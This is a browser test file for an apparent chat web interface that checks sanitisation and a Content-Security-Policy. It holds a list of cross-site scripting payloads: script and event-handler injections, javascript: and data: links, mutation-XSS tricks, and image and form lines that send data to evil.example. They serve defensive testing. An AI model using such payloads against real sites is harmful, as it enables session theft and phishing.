// Text never becomes more than text: what a model or a user writes cannot run, load, style or pose as the page.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { longTest, shortTest as test } from '../harness.mjs';
import { connected, newContext, newPage, openPage, say, settled, sharedServer } from './browser.mjs';
import { FakeSession } from './fake_session.mjs';

const server = await sharedServer();

const HOSTILE = [
  '<img src=x onerror="window.hacked=1">',
  '<script>window.hacked=1</script>',
  '<svg onload=window.hacked=1><svg/onload=window.hacked=1>',
  '<iframe src="javascript:parent.hacked=1"></iframe>',
  '<a href="javascript:window.hacked=1" id="message" name="body">click</a>',
  '[link](javascript:window.hacked=1) [link](JaVaScRiPt&colon;window.hacked=1) [x](  javascript:alert(1))',
  '[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=) [vb](vbscript:msgbox(1)) [file](file:///etc/passwd)',
  '![leak](https://evil.example/?q=secret) ![x](javascript:window.hacked=1)',
  '![a](x "onerror=window.hacked=1") ![a](x"onerror="window.hacked=1)',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<style>*{display:none}</style><div style="position:fixed;inset:0">Over everything</div>',
  '<div class="dialog" data-action="copy-code" onclick="window.hacked=1">',
  '`<img src=x onerror=window.hacked=1>`',
  '```html\n<img src=x onerror=window.hacked=1>\n</code></pre><script>window.hacked=1</script>\n```',
  '```"><img/src=x/onerror=window.hacked=1>\ncode\n```',
  '| a | b |\n| --- | --- |\n| <img src=x onerror=window.hacked=1> | [x](javascript:window.hacked=1) |',
  '[ref]: javascript:window.hacked=1 "title"\n\n[ref] <javascript:window.hacked=1> <https://evil.example/"onmouseover=window.hacked=1>',
  '- [x] <b onmouseover=window.hacked=1>task</b>',
  'https://evil.example/<script>window.hacked=1</script>\u0000 \u202Egnp.exe',
  '&lt;img src=x onerror=window.hacked=1&gt; &#x3C;script&#x3E;window.hacked=1&#x3C;/script&#x3E;',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
];

/** What no text may bring into the page. */
async function checkClean(page) {
  const found = await page.evaluate(() => {
    const problems = [];
    const log = document.querySelector('.log');
    for (const element of log.querySelectorAll('*')) {
      if (
        /^(script|style|iframe|img|form|input|object|embed|link|meta|base|math|video|audio|source)$/i.test(
          element.localName,
        )
      )
        problems.push(element.outerHTML);
      if (element.namespaceURI === 'http://www.w3.org/2000/svg' && !element.closest('.icon'))
        problems.push(element.outerHTML);
      for (const { name, value } of element.attributes) {
        const isHeight = element.matches('.slice, .turn') && /^contain-intrinsic-height: auto [\d.]+px;$/.test(value);
        if (/^on/i.test(name) || (name === 'style' && !isHeight) || name === 'srcdoc')
          problems.push(`${name} in ${element.outerHTML}`);
        if (/^(href|src|action|formaction)$/i.test(name) && !/^(https?:|mailto:)/i.test(value))
          problems.push(`${name}=${value}`);
      }
      if (element.closest('.prose')) {
        if (
          element.localName === 'a' &&
          element.hasAttribute('href') &&
          (element.target !== '_blank' || !/noopener/.test(element.rel) || !/noreferrer/.test(element.rel))
        )
          problems.push(`link: ${element.outerHTML}`);
        if (element.id || element.hasAttribute('name')) problems.push(`named: ${element.outerHTML}`);
      }
    }
    if ('hacked' in window) problems.push('a script ran');
    if (document.getElementById('message')?.localName !== 'textarea')
      problems.push('an element was shadowed');
    return problems;
  });
  assert.deepEqual(found, []);
}

/** Fails on any request to another host. */
function watchRequests(t, page) {
  const elsewhere = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(server.url) && !/^(data|blob|about):/.test(request.url()))
      elsewhere.push(request.url());
  });
  t.after(() => assert.deepEqual(elsewhere, [], 'the page asked other hosts'));
}

test('an answer that was there before', async (t) => {
  const page = await newPage(t, await newContext(t));
  watchRequests(t, page);
  await FakeSession.route(
    page,
    HOSTILE.map((text, i) => [`say ${i}`, text]),
  );
  await page.goto(`${server.url}/#s=fake`);
  await settled(page, HOSTILE.length);
  await checkClean(page);
  const text = await page.locator('.log').textContent();
  assert.match(text, /<img src=x onerror="window.hacked=1">/, 'markup is shown as it was written');
  for (const link of await page.locator('.prose a[href]').all())
    await link.hover({ force: true, timeout: 1000 }).catch(() => {});
  await checkClean(page);
});

longTest('an answer that streams in pieces of any size', async (t) => {
  const page = await newPage(t, await newContext(t));
  watchRequests(t, page);
  const fake = await FakeSession.route(page);
  await page.goto(`${server.url}/#s=fake`);
  await connected(page);
  await page.waitForSelector('.log');
  for (const [i, text] of HOSTILE.entries()) {
    await fake.begin(`say ${i}`);
    for (let at = 0; at < text.length; at += 1 + (i % 7)) {
      fake.delta(text.slice(at, at + 1 + (i % 7)));
      if (at % 8 === 0) await page.evaluate(() => new Promise(requestAnimationFrame));
    }
    fake.delta('\n\nA paragraph after it.\n\n');
    fake.done();
  }
  await settled(page, HOSTILE.length);
  await checkClean(page);
});

test('what a user says, through the real server', async (t) => {
  const page = await openPage(t, server);
  watchRequests(t, page);
  const text = HOSTILE.join('\n').replaceAll('\u0000', '');
  await say(page, text);
  await settled(page, 1);
  await checkClean(page);
  assert.equal(await page.locator('.bubble-text').textContent(), text);
  await page.reload();
  await settled(page, 1);
  await checkClean(page);
  // The title is made of it too.
  await page.waitForSelector('.item.current');
  assert.match(await page.locator('h1').innerText(), /^<img src=x onerror/);
});

test('addresses that name no session are no way in', async (t) => {
  const page = await openPage(t, server, { hash: '#s=<img src=x onerror=window.hacked=1>' });
  assert.equal(await page.locator('.suggestion').count(), 6);
  assert.equal(await page.evaluate(() => 'hacked' in window), false);
});

test('the page is sent with its policy, and without a frame around it', async () => {
  const answer = await fetch(server.url);
  const policy = answer.headers.get('content-security-policy');
  for (const part of [
    "default-src 'none'",
    "script-src 'self'",
    "style-src 'self'",
    "frame-ancestors 'none'",
    "require-trusted-types-for 'script'",
  ])
    assert.ok(policy.includes(part), part);
  assert.doesNotMatch(policy, /unsafe|https?:/);
  const text = await answer.text();
  assert.doesNotMatch(text, / on\w+=| style=/);
  // The one script and the one style inside it are allowed by their hashes, and nothing else inside a page is.
  for (const element of ['script', 'style']) {
    const inside = [...text.matchAll(new RegExp(`<${element}\\b([^>]*)>([^]*?)</${element}>`, 'g'))];
    assert.deepEqual(inside.map(([, attributes]) => attributes), [''], element);
    const hash = createHash('sha256').update(inside[0][2]).digest('base64');
    assert.match(policy, new RegExp(`${element}-src 'self' 'sha256-[^']+';`));
    assert.ok(policy.includes(`'sha256-${hash}'`), element);
  }
  const other = await fetch(`${server.url}/metrics`);
  assert.doesNotMatch(other.headers.get('content-security-policy'), /sha256/, 'other replies allow no inline script or style');
});
